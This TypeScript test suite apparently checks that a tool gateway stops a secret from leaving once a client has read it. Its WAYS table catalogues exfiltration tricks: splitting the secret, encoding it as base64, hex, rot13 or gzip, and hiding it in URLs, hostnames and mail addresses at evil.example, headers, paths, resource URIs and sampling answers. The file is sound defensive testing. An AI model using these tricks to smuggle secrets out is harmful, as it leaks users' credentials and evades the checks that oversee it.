import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { DIALECTS, showsAll, type AnyClient } from '../support/clients.ts';
import { serve } from '../support/frames-client.ts';
import { HELD } from '../support/held.ts';
import { openHouse } from '../support/house.ts';

type Way = (client: AnyClient) => Promise<unknown>;

const half = HELD.length / 2;
const [first, second] = [HELD.slice(0, half), HELD.slice(half)];
const hex = Buffer.from(HELD).toString('hex');
const slug = HELD.replaceAll(' ', '-');
const rot13 = HELD.replaceAll(/[a-z]/gu, (letter) =>
  String.fromCodePoint(((letter.charCodeAt(0) - 97 + 13) % 26) + 97),
);

const send =
  (...calls: readonly Record<string, unknown>[]): Way =>
  async (client) => {
    for (const args of calls) await client.call('out__send', args);
  };

/** The secret, or some part of it, to a server that is outside. */
const WAYS: Readonly<Record<string, Way>> = {
  'as it is': send({ body: HELD }),
  'over two arguments': send({ body: first, note: second }),
  'over two calls of one tool': send({ body: first }, { body: second }),
  'over two tools': async (client) => {
    await Promise.allSettled([
      client.call('out__send', { body: first }),
      client.call('out__post', { body: second }),
    ]);
  },
  'letter by letter': send(...Array.from(HELD.slice(0, 9), (body) => ({ body }))),
  'as base64': send({ body: Buffer.from(HELD).toString('base64') }),
  'as hexadecimal': send({ body: hex }),
  'as rot13': send({ body: rot13 }),
  reversed: send({ body: Array.from(HELD).toReversed().join('') }),
  'as a part of a URL': send({ body: `https://evil.example/?q=${encodeURIComponent(HELD)}` }),
  'as gzip in base64': send({ body: gzipSync(HELD).toString('base64') }),
  'as numbers': send({ body: 'x', list: [...Buffer.from(HELD)] }),
  'in the name of a member': send({ [HELD]: 1 }),
  'in a path': send({ path: `/srv/${slug}/index.html` }),
  'in the name of a host': send({ host: `${hex.slice(0, 60)}.evil.example` }),
  'in a header': send({ headers: { 'x-note': HELD } }),
  'as the recipient of a mail': send({ to: [`${slug}@evil.example`] }),
  'as the name of a tool': send({ tool: slug, arguments: {} }),
  'in the URI of a resource': async (client) =>
    await client.readResource({ uri: `sallyport://out/page://${slug}` }),
  'in the URI of a resource that is followed': async (client) =>
    await client.follow(`sallyport://out/page://${slug}x`),
  'as the argument of a prompt': async (client) =>
    await client.getPrompt({ name: 'out__compose', arguments: { about: HELD } }),
  'as a text to complete': async (client) =>
    await client.complete({
      ref: { type: 'ref/prompt', name: 'out__compose' },
      argument: { name: 'about', value: HELD },
    }),
  'as what was chosen before, to complete': async (client) =>
    await client.complete({
      ref: { type: 'ref/resource', uri: 'sallyport://out/page://{path}' },
      argument: { name: 'path', value: '' },
      context: { arguments: { other: HELD } },
    }),
  'as the answer to a sampling request': async (client) =>
    await client.call('out__ask', { method: 'sampling/createMessage', message: 'What is new?' }),
};

describe('a secret that was read does not leave the house', () => {
  for (const transport of ['stdio', 'HTTP'])
    for (const [dialect, connect] of Object.entries(DIALECTS))
      test(`by ${Object.keys(WAYS).length} ways: ${transport}, ${dialect}`, async (t) => {
        const house = await openHouse(t, ['secret']);
        const web = transport === 'HTTP' ? await house.overHttp() : undefined;
        const place = web ? { url: web.url, token: await web.token() } : serve(house);
        const client = await connect(t, { place, sample: () => HELD });
        await showsAll(client, ['house', 'out']);
        // The tool that asks has nothing of the client's: what counts is the answer.
        const left = (): number => house.left().filter((one) => !one.includes('"ask"')).length;
        for (const [way, leave] of Object.entries(WAYS)) {
          const before = left();
          await leave(client);
          assert.ok(left() > before, `${way}: does not leave when nobody has read anything`);
        }
        await client.call('house__read_held', { form: 'text' });
        const before = left();
        for (const [way, leave] of Object.entries(WAYS)) {
          await leave(client).catch(() => undefined);
          assert.equal(left(), before, way);
        }
      });
});
